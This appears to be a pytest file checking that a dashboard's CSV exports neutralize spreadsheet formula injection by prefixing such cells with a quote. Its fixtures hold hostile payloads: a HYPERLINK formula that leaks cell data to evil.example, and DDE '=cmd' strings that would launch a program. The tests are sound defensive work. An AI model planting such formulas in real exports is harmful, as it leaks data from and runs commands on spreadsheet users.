"""Every CSV the project writes goes through one injection-safe writer (exports.write_query_csv).

A cell a spreadsheet would read as a formula gets a leading single quote, whether it comes
from an export, `check --format csv` or `user list --format csv`.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from dashboard import accounts, exports
from dashboard.cli import main as cli_main

from conftest import ADMIN, SYSTEM

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_check_csv_neutralizes_formulas_from_a_processor_id(store):
    with store.write(SYSTEM, "register.import") as w:
        w.execute("INSERT INTO processors (processor_id, name, kind, service, purpose, "
                  "data_categories, storage_region, status) VALUES (?, ?, 'supplier', 'x', "
                  "'identity_verification', ['phone'], 'US', 'active')",
                  [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"])
        w.audit("test.fill", "processor", FORMULA)
    out, err = io.StringIO(), io.StringIO()
    code = cli_main(["--db", str(store.path), "check", "--format", "csv", "--no-snapshot"],
                    out, err)
    assert code == 0, err.getvalue()
    values = cells(out.getvalue())
    assert any(v == "'" + FORMULA for v in values)
    assert not any(v[:1] in ("=", "+", "-", "@") for v in values), \
        [v for v in values if v[:1] in "=+-@"]
    assert out.getvalue().endswith("\r\n") and not out.getvalue().startswith("\ufeff")


def test_user_list_csv_neutralizes_a_display_name(store, monkeypatch):
    monkeypatch.setattr(accounts, "hash_password", lambda p: "argon2-not-used-here")
    accounts.create_user(store, ADMIN, "eve", "auditor", "correct horse battery 9",
                         display_name="=cmd|' /C calc'!A0")
    out, err = io.StringIO(), io.StringIO()
    code = cli_main(["--db", str(store.path), "user", "list", "--format", "csv"], out, err)
    assert code == 0, err.getvalue()
    values = cells(out.getvalue())
    assert "'=cmd|' /C calc'!A0" in values
    assert not any(v.startswith("=") for v in values)


def test_the_frame_writer_is_the_export_writer():
    import pandas as pd
    buf = io.BytesIO()
    stats = exports.write_frame_csv(pd.DataFrame({"a": ["-1+2", "plain", None],
                                                  "b": [1, 2, 3]}), buf)
    assert buf.getvalue() == ("\ufeffa,b\r\n'-1+2,1\r\nplain,2\r\n,3\r\n").encode("utf-8")
    assert stats.rows == 3


def test_no_other_csv_writer_in_the_code():
    """One writer: no pandas to_csv or csv.writer anywhere else in the app's code."""
    offenders = []
    for path in [*(ROOT / "dashboard").glob("*.py"),
                 *(ROOT / "pages").glob("*.py"), ROOT / "app.py", ROOT / "server.py"]:
        if not path.exists():
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(path.name)
    assert offenders == []
